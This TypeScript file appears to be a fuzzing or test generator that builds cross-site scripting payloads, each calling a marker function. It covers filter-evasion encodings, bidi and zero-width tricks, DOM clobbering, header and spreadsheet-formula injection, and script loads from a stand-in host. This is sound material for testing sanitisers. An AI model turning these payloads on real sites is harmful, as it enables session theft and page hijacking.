/**
 * What an attacker may type to make a page run something, grown from classes: which element, which
 * event, which way of quoting, which way of hiding it from a filter. Each calls `hit()`.
 */

const CALL = 'hit()'
const events = [
  'onerror',
  'onload',
  'onfocus',
  'onclick',
  'onmouseover',
  'ontoggle',
  'onanimationstart',
]
const tags = [
  'img',
  'svg',
  'body',
  'details',
  'input',
  'iframe',
  'video',
  'object',
  'math',
  'marquee',
]

const breakouts = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '</textarea>',
  '</title>',
  '</p></main>',
  '-->',
  ']]>',
  '`>',
]

const encoded = (text: string) =>
  [...text].map((sign) => `&#x${sign.codePointAt(0)!.toString(16)};`).join('')
const escaped = (text: string) =>
  [...text].map((sign) => `\\u${sign.codePointAt(0)!.toString(16).padStart(4, '0')}`).join('')
const mixed = (text: string) =>
  [...text].map((sign, index) => (index % 2 ? sign.toUpperCase() : sign)).join('')

function* elements() {
  for (const breakout of breakouts) {
    yield `${breakout}<script>${CALL}</script>`
    yield `${breakout}<svg/onload=${CALL}>`
    yield `${breakout}<img src=x onerror=${CALL}>`
  }
  for (const tag of tags) {
    for (const event of events) {
      yield `<${tag} ${event}=${CALL} src=x autofocus tabindex=1 open>`
      yield `<${mixed(tag)}/${mixed(event)}="${CALL}"/src="x">`
    }
  }
}

function* attributes() {
  for (const event of events) {
    for (const quote of ['"', "'", '`', '']) yield `x${quote} ${event}=${CALL} autofocus x=${quote}`
    yield `" style="animation-name:x" ${event}="${CALL}`
    yield `\t"\n${event}\n=\n"${CALL}"`
  }
}

function* addresses() {
  const schemes = [
    'javascript:',
    'JaVaScRiPt:',
    'java\tscript:',
    'java\nscript:',
    '\u0001javascript:',
  ]
  for (const scheme of [...schemes, encoded('javascript:'), 'javascript&colon;', 'vbscript:']) {
    yield `${scheme}${CALL}`
    yield `<a href="${scheme}${CALL}" autofocus>klik</a>`
    yield `<form action="${scheme}${CALL}"><button autofocus>klik</button></form>`
    yield `<iframe src="${scheme}${CALL}"></iframe>`
    yield `<meta http-equiv=refresh content="0;url=${scheme}${CALL}">`
    yield `<svg><a xlink:href="${scheme}${CALL}"><text>klik</text></a></svg>`
  }
  yield `data:text/html,<script>parent.${CALL}</script>`
  yield `<object data="data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==">`
  yield '<base href="//elsewhere.example/"><script src="x.js"></script>'
  yield '<script src=//elsewhere.example/x.js></script>'
  yield '<link rel=stylesheet href=//elsewhere.example/x.css>'
}

function* drawings() {
  for (const event of ['onbegin', 'onend', 'onrepeat']) {
    yield `<svg><animate ${event}=${CALL} attributeName=x dur=1s>`
    yield `<svg><set ${event}=${CALL} attributeName=x>`
  }
  yield `<svg><script>${encoded(CALL)}</script></svg>`
  yield `<svg><style><img src=x onerror=${CALL}></style></svg>`
  yield `<svg><foreignObject><body onload=${CALL}></foreignObject></svg>`
  yield `<svg><use href="data:image/svg+xml,<svg id=x onload=${CALL}>#x">`
  yield `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`
  yield `<math><a xlink:href="javascript:${CALL}">x</a></math>`
}

function* hidden() {
  const whole = `<img src=x onerror=${CALL}>`
  yield encoded(whole)
  yield escaped(whole)
  yield encodeURIComponent(whole)
  yield encodeURIComponent(encodeURIComponent(whole))
  yield whole.replaceAll('<', '&lt;').replaceAll('>', '&gt;')
  yield whole.replaceAll('<', '&amp;lt;')
  yield whole.replaceAll('<', '\uFF1C').replaceAll('>', '\uFF1E')
  yield whole.replaceAll('<', '\u2039')
  yield `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`
  for (const filler of ['\u00AD', '\u200B', '\u2060', '\uFEFF', '/**/', '<!-- -->', '\u00A0']) {
    yield `<scr${filler}ipt>${CALL}</scr${filler}ipt>`
    yield `<img${filler}src=x${filler}onerror=${CALL}>`
    yield `${filler}<svg onload=${CALL}>${filler}`
  }
  for (const [start, end] of [
    ['\u202E', '\u202C'],
    ['\u2067', '\u2069'],
    ['\u202B', '\u202C'],
  ]) {
    yield `${start}>${[...`<script>${CALL}`].reverse().join('')}${end}`
    yield `${start}<script>${CALL}</script>${end}`
    yield `"${start} onfocus=${CALL} autofocus x="${end}`
  }
}

function* templates() {
  for (const [start, end] of [
    ['{{', '}}'],
    ['${', '}'],
    ['<%=', '%>'],
    ['#{', '}'],
    ['[[', ']]'],
    ['{%', '%}'],
    ['{', '}'],
  ]) {
    for (const code of [CALL, `constructor.constructor('${CALL}')()`, '7*7', 'this', '__proto__']) {
      yield `${start}${code}${end}`
    }
  }
  for (const end of ['</script>', "';", '";', '`;', ');', '*/', '\u2028']) {
    yield `${end}${CALL};//`
    yield `${end}<script>${CALL}</script><!--`
  }
  yield `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`
  yield `<template><script>${CALL}</script></template>`
  yield `<template shadowrootmode=open><script>${CALL}</script></template>`
  yield `<style>@import 'javascript:${CALL}';</style>`
  yield `<div style="background:url(javascript:${CALL})">`
  yield `<x-widget onclick=${CALL} contenteditable autofocus onfocus=${CALL}>`
}

/** Names that a page of ours uses itself, so that a script of ours would take the wrong thing for it. */
function* names() {
  const ours = ['roer', 'leave', 'main', 'data-live', 'hit', 'body', 'head', 'forms', 'cookie']
  for (const name of ours) {
    yield `<a id=${name}><a id=${name} name=hit href="javascript:${CALL}">`
    yield `<form id=${name}><input name=action value="javascript:${CALL}"><input name=attributes>`
    yield `<img name=${name} src=x onerror=${CALL}>`
  }
  for (const property of ['innerHTML', 'outerHTML', 'nodeName', 'parentNode', 'cloneNode']) {
    yield `<form><input name=${property}><input name=${property} onfocus=${CALL} autofocus></form>`
  }
}

/** What a page that is drawn anew over an open one might take for more than text. */
function* drawnAnew() {
  for (const attribute of [
    'im-preserve',
    'im-re-append',
    'data-live',
    'data-ignore',
    'is',
    'slot',
  ]) {
    yield `<div ${attribute}="true" onclick=${CALL}><img src=x onerror=${CALL}></div>`
    yield `" ${attribute}="${CALL}" x="`
  }
  yield `<head im-preserve><script>${CALL}</script></head>`
  yield `<script type=module>${CALL}</script>`
  yield `<script type=importmap>{"imports":{"/assets/":"data:text/javascript,${CALL}"}}</script>`
  yield `<script type=speculationrules>{"prefetch":[{"urls":["/weg"]}]}</script>`
  yield `<link rel=modulepreload href="data:text/javascript,${CALL}">`
  yield `<link rel=preload as=script href=//elsewhere.example/x.js>`
  yield `trustedTypes.createPolicy('default',{createHTML:s=>s});${CALL}`
  yield `<svg><style>/*<![CDATA[*/</style><img src=x onerror=${CALL}>/*]]>*/`
  yield `<select><template><img src=x onerror=${CALL}></template></select>`
  yield `<table><td><svg><desc><table><img src=x onerror=${CALL}>`
  yield `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${CALL} src>">`
}

/** What styles, heads of mails and lines of other files are made of. */
function* otherLanguages() {
  for (const rule of [
    '@import url(//elsewhere.example/x.css);',
    'body{background:url(//elsewhere.example/x)}',
    'x{behavior:url(#x);-moz-binding:url(#x)}',
    `a{width:expression(${CALL})}`,
    ':root{--x:url(//elsewhere.example/x)}',
  ]) {
    yield `<style>${rule}</style>`
    yield `</style>${rule}`
    yield `" style="${rule}" x="`
  }
  for (const line of ['\n', '%0d%0a', '\\r\\n', '&#13;&#10;', '\u0085', '\u2028']) {
    yield `x${line}Content-Type: text/html${line}${line}<script>${CALL}</script>`
    yield `x${line}Set-Cookie: roer=x${line}Location: javascript:${CALL}`
    yield `x${line}data: <img src=x onerror=${CALL}>${line}event: look`
    yield `x${line}END:VEVENT${line}URL:javascript:${CALL}`
  }
  for (const start of ['=', '+', '-', '@']) yield `${start}HYPERLINK("javascript:${CALL}","klik")`
  for (const path of ['__proto__', 'constructor.prototype', 'toString']) {
    yield `{"${path}":{"innerHTML":"<img src=x onerror=${CALL}>"}}`
    yield `${path}[src]=data:,${CALL}`
  }
}

/** The first so many, taken in turn from every class. */
export function xssPayloads(count: number): string[] {
  const classes = [
    ...[elements, attributes, addresses, drawings, hidden, templates],
    ...[names, drawnAnew, otherLanguages],
  ].map((one) => [...new Set(one())])
  const longest = Math.max(...classes.map(({ length }) => length))
  const inTurn = Array.from({ length: longest }, (_, index) =>
    classes.flatMap((one) => one.slice(index, index + 1)),
  ).flat()
  const all = [...new Set(inTurn)]
  // Once every class is used up, the same after another way out of what it may stand in.
  const grown = breakouts.slice(1).flatMap((breakout) => all.map((one) => breakout + one))
  return [...new Set([...all, ...grown])].slice(0, count)
}
